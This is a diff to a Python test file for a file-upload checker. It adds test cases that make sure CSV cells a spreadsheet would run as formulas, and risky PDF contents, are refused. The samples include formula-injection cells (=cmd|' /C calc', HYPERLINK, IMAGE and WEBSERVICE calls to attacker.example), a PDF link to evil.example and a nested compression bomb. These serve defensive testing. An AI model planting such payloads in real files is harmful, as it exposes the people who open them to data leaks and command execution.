@@ -369,14 +369,15 @@ def test_editors_files_get_the_checks_downloads_get(tmp_path):
 
 # --- Formulas in CSV downloads (attack5/FINDINGS.md 2) -----------------------------
 
-FORMULA_HINT = "hint: A spreadsheet runs a cell that starts with = or @, or with + or - and calls a function"
+FORMULA_HINT = "hint: A spreadsheet runs a cell that starts with =, or with +, - or @ and reaches another program"
 RUNS = "has a cell that a spreadsheet would run as a formula when the file is opened"
 # (file name, content, what the refusal says): the attacker's file and the
 # ways a cell can start a formula; each was published before this change.
 CSV_FORMULAS = [
     ("attacker.csv", b'Area,Question,Link\nEvidence,"=HYPERLINK(""\\\\attacker.example\\share\\x"",""Open"")",x\n'
                      b"Finance,=cmd|' /C calc'!A0,y\n", 'row 2, column B: `=HYPERLINK("\\\\attacker.example'),
-    ("at.csv", b"a,b\n1,@SUM(A1)\n", "row 2, column B: `@SUM(A1)`"),
+    # (`@SUM(A1)` sums; twenty-fourth round: a cell that starts with @ is read like one with + or -.)
+    ("at.csv", b'a,b\n1,"@IMAGE(""https://attacker.example/p.png"")"\n', "row 2, column B: `@IMAGE("),
     ("minus.csv", b"a,b\n1,-2+cmd|' /C calc'!A0\n", "row 2, column B: `-2+cmd|"),
     ("plus.csv", b"a,b\n1,+WEBSERVICE(\"https://attacker.example/\")\n", "row 2, column B: `+WEBSERVICE("),
     ("after-tab.csv", b'a,b\n1,"\t=IMAGE(""https://attacker.example/p.png"")"\n', "row 2, column B: `=IMAGE("),
@@ -392,7 +393,9 @@ CSV_FORMULAS = [
 GOOD_CSV = (b"Name,Phone,Change,Note\nPlanning team,+44 131 623 4300,-5,'=not a formula\n"
             b"Finance,0131 623 4300,-(1,200.50),-12%\nOther,-,+3.5,text with = and - inside\n"
             # Twenty-second round: money, phone numbers with dashes, notes and ranges are data.
-            b'Costs,+1-555-123-4567,"-\xc2\xa31,200",- see note\nMore,+/-2,-2 to +3,-N/A\n')
+            b'Costs,+1-555-123-4567,"-\xc2\xa31,200",- see note\nMore,+/-2,-2 to +3,-N/A\n'
+            # Twenty-fourth round: notes with ! [ ] and brackets are data too.
+            b"Notes,- urgent!,-ve balance [draft],- Q1(est.) figures\nTeam,@team on Teams,- Scotland (North) region,x\n")
 
 
 def test_csv_cells_a_spreadsheet_would_run_are_refused(tmp_path):
@@ -785,6 +788,11 @@ def encrypted_pdf() -> bytes:
     # Packed data that holds the bytes `endstream` (stored, not compressed) is read to its real end.
     (raw_pdf([*PAGES, b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(PACKED)
               + PACKED + b"\nendstream"], b"<< /Size 5 /Root 1 0 R >>"), "holds JavaScript"),
+    # Twenty-fourth round: a signature the published file would break, and files named by a web address.
+    (raw_pdf([*PAGES, b"<< /Type /Sig /ByteRange [0 10 20 30] /Contents <00> >>"], b"<< /Size 5 /Root 1 0 R >>"),
+     "is digitally signed"),
+    (raw_pdf([*PAGES, b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Thread /D 0 /F << /FS /URL "
+                      b"/F (https://evil.example/a.pdf) >> >> >>"], b"<< /Size 5 /Root 1 0 R >>"), "holds URL"),
 ])
 def test_a_pdf_is_read_whole_not_only_from_its_trailer(data, says):
     from resource_library.files import pdf_problem
@@ -1001,3 +1009,9 @@ def test_a_pdf_is_published_as_qpdf_read_it(tmp_path):
     hidden = two_tables_pdf(b"<< /Type /Catalog /Pages 3 0 R /OpenAction " + SCRIPT + b" >>",
                             b"<< /Type /Catalog /Pages 3 0 R >>")
     assert b"/OpenAction" not in normalised_pdf(hidden) and normalised_pdf(normalised_pdf(hidden)) == normalised_pdf(hidden)
+    # Twenty-fourth round: streams are copied, never unpacked (a page packed twice over held 1 GB of blank lines).
+    packed = zlib.compress(zlib.compress(b"\n" * 20_000_000, 9), 9)
+    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
+    bomb = raw_pdf([*PAGES[:2], page, b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(packed)
+                    + packed + b"\nendstream"], b"<< /Size 5 /Root 1 0 R >>")
+    assert len(normalised_pdf(bomb)) < 2 * len(bomb)
